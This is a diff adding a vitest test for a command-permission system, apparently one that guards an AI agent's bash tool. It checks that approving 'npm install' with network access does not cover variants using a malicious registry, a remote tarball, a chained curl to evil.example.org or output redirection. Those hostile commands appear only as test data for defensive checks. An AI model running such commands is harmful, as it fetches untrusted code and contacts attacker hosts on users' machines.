@@ -1,7 +1,10 @@
 import { describe, expect, it } from "vitest"
 import { bash, cwd, decide, file, modes, place, rules } from "../../test/support/permissions/call.ts"
+import { context } from "../../test/support/permissions/command.ts"
 import type { AccessedPath } from "../session/accessed-path.ts"
+import { analyseCommand } from "./analyse-command.ts"
 import { type Call, lastingRule } from "./call.ts"
+import { decidePermission } from "./decision.ts"
 import type { Rule, Rules } from "./rules/rule.ts"
 
 describe("rules", () => {
@@ -112,6 +115,34 @@ describe("a rule for the words that a command starts with", () => {
     expect(lastingRule(bash("npm test"))).toEqual({ ...rule, cwd: cwd.path })
     expect(lastingRule(bash("touch x"))).toEqual({ tool: "bash", command: "touch x", cwd: cwd.path })
     expect(lastingRule(bash("rm -r x"))).toEqual({ tool: "bash", command: "rm -r x", cwd: cwd.path })
+  })
+})
+
+describe("the network, granted always for the usual commands of a project", () => {
+  const use = { is: "on", network: false, holdsSignals: true, shown: "Landlock" } as const
+  const asking = async (command: string): Promise<Call> => {
+    const access = { kind: "command", command, cwd, network: true } as const
+    return { tool: "bash", arguments: { command }, access, analysis: await analyseCommand(command, context) }
+  }
+
+  it("is given to what starts like the command that was approved, in the sandbox, and to nothing else", async () => {
+    const rule = lastingRule(await asking("npm install left-pad"))
+    expect(rule).toEqual({ tool: "bash", starts_with: "npm install", cwd: cwd.path, network: true })
+    const given = rules({ allow: rule ? [rule] : [] })
+    const decided = async (command: string) =>
+      decidePermission({ ...(await asking(command)), mode: "workspace-write", rules: given, grants: [], use })
+    expect(await decided("npm install react")).toMatchObject({
+      outcome: "allow",
+      sandbox: { mode: "workspace-write", network: true },
+    })
+    for (const other of [
+      "npm install --registry=https://evil.example.org/ react",
+      "npm install https://evil.example.org/x.tgz",
+      "npm install && curl https://evil.example.org/",
+      "npm install > ../out",
+      "npm test",
+    ])
+      expect([other, (await decided(other)).outcome]).toEqual([other, "ask"])
   })
 })
 
